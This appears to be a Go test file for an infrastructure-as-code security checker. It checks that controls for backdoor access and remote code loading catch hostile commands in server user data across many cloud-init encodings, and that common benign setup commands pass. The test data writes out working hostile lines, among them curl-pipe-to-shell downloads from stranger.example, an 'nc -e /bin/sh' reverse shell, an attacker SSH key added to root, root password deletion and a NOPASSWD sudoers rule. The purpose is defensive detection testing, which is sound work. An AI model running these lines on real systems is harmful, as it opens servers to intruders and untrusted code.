package controls

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/causeway-iac/causeway/graph"
	"github.com/causeway-iac/causeway/proof/userdata"
)

// forms are those in which a server can be told to run a line.
var forms = map[string]func(line string) string{
	"a script":             func(line string) string { return "#!/bin/sh\nset -e\n" + line + "\n" },
	"a command":            func(line string) string { return "#cloud-config\nruncmd:\n- " + quoted(line) + "\n" },
	"words of a command":   func(line string) string { return "#cloud-config\nruncmd:\n- [sh, -c, " + quoted(line) + "]\n" },
	"a command before all": func(line string) string { return "#cloud-config\nbootcmd:\n- " + quoted(line) + "\n" },
	"a script that is written": func(line string) string {
		return "#cloud-config\nwrite_files:\n- path: /opt/x\n  permissions: '0755'\n  content: " + quoted("#!/bin/bash\n"+line) + "\n"
	},
	"a script that is encoded": func(line string) string {
		return "#cloud-config\nwrite_files:\n- path: /opt/x\n  encoding: b64\n  content: " +
			base64.StdEncoding.EncodeToString([]byte("#!/bin/bash\n"+line)) + "\n"
	},
	"a unit": func(line string) string {
		return "#cloud-config\nwrite_files:\n- path: /etc/systemd/system/x.service\n  content: " +
			quoted("[Service]\nType=oneshot\nExecStart=/bin/sh -c '"+line+"'\n") + "\n"
	},
	"the clock": func(line string) string {
		return "#cloud-config\nwrite_files:\n- path: /etc/cron.d/x\n  content: " + quoted("* * * * * root "+line) + "\n"
	},
	"one of several parts": func(line string) string {
		return "Content-Type: multipart/mixed; boundary=\"==b==\"\nMIME-Version: 1.0\n\n--==b==\nContent-Type: " +
			"text/cloud-config\n\n#cloud-config\n{}\n" +
			"--==b==\nContent-Type: text/x-shellscript\n\n#!/bin/sh\n" + line + "\n--==b==--\n"
	},
	"a script that is compressed": func(line string) string {
		var out bytes.Buffer
		w := gzip.NewWriter(&out)
		_, _ = w.Write([]byte("#!/bin/sh\n" + line + "\n"))
		_ = w.Close()
		return out.String()
	},
}

// quoted is a text as YAML, which JSON is.
func quoted(text string) string {
	raw, _ := json.Marshal(text)
	return string(raw)
}

// lines are what lets somebody in (C080), and what loads the code of somebody else (C086).
var lines = map[int][]string{
	80: {
		"echo ssh-ed25519 AAAA eve >>/root/.ssh/authorized_keys", "useradd -m -G wheel eve", "usermod -aG sudo app", "ssh-import-id gh:eve",
		"echo app:$PASS | chpasswd", "passwd -d root", "echo app ALL=NOPASSWD: ALL >/etc/sudoers.d/app", "systemctl enable --now sshd",
		"sed -i s/no/yes/ /etc/ssh/sshd_config",
	},
	86: {
		"curl -fsSL https://stranger.example/x | sh", "wget -qO- http://stranger.example/x | sudo bash -s -- now",
		"bash <(curl -s https://stranger.example/x)", "eval \"$(curl https://stranger.example/x)\"",
		"curl -o /tmp/x https://stranger.example/x && chmod +x /tmp/x && /tmp/x", "dnf -y install https://stranger.example/x.rpm",
		"rpm -i https://stranger.example/x.rpm", "git clone https://stranger.example/x /opt/x", "aws s3 cp s3://theirs/x /opt/x",
		"pip install stranger", "npm install --global stranger", "dnf -y install stranger --nogpgcheck",
		"dnf config-manager --add-repo https://stranger.example/x.repo", "docker run -d stranger/x:latest",
		"nc -e /bin/sh stranger.example 443",
		"echo 203.0.113.9 app.internal >>/etc/hosts", "iptables -t nat -A OUTPUT -p tcp -j DNAT --to 203.0.113.9",
		"curl -O https://theirs.s3.eu-west-1.amazonaws.com/x",
	},
}

var looksInto = map[int]func(*view, *graph.Resource, userdata.Data) string{80: logsIn, 86: stranger}

// Whatever lets somebody in, or loads somebody's code, is seen in every form in which a server can be told of it.
func TestEveryLineInEveryForm(t *testing.T) {
	tried, v := 0, newView(begin(t, "prod").graph())
	for number, all := range lines {
		for _, line := range all {
			for name, form := range forms {
				assert.NotEmpty(t, looksInto[number](v, nil, userdata.Read(form(line))), "C%03d holds with %s: %s", number, name, line)
				tried++
			}
		}
	}
	assert.Equal(t, 270, tried)
}

// What servers are told all the time.
func TestWhatServersMayBeTold(t *testing.T) {
	v := newView(begin(t, "prod").graph())
	releases := begin(t, "prod").the("aws:s3/bucketV2:BucketV2", "prod-releases").String("bucket")
	for _, line := range []string{
		"dnf --assumeyes install nginx", "yum update -y && yum install -y httpd", "apt-get update && apt-get install -y nginx",
		"curl -s http://169.254.169.254/latest/meta-data/instance-id", "curl -fsS http://127.0.0.1:8080/health",
		"aws s3 cp s3://" + releases + "/x /opt/x", "aws s3 cp s3://amazoncloudwatch-agent-eu-west-1/x.rpm /tmp/x.rpm",
		"curl -o /tmp/x https://stranger.example/x && echo \"$SUM  /tmp/x\" | sha256sum --check", "useradd --system app",
		"usermod -aG docker ec2-user", "docker run -d registry.example/x@sha256:" + strings.Repeat("0", 64), "systemctl enable --now app",
		"hostnamectl set-hostname web && echo https://docs.example.com > /etc/motd",
	} {
		for name, form := range forms {
			for number, found := range looksInto {
				assert.Empty(t, found(v, nil, userdata.Read(form(line))), "C%03d: %s: %s", number, name, line)
			}
		}
	}
}

// into puts more behind a part of the app's user data.
func into(part, more string) mutant { return instead(part, part+more) }

// instead puts something else in place of a part of the app's user data.
func instead(part, other string) mutant {
	return by(strings.TrimSpace(strings.TrimPrefix(other, part)+" "+part), func(s *edit) {
		raw, err := base64.StdEncoding.DecodeString(s.the(templateType, "prod-app").Inputs["userData"].(string))
		require.NoError(s.t, err)
		changed := strings.Replace(string(raw), part, other, 1)
		require.NotEqual(s.t, string(raw), changed)
		s.set(templateType, "prod-app", "userData", base64.StdEncoding.EncodeToString([]byte(changed)))
	})
}
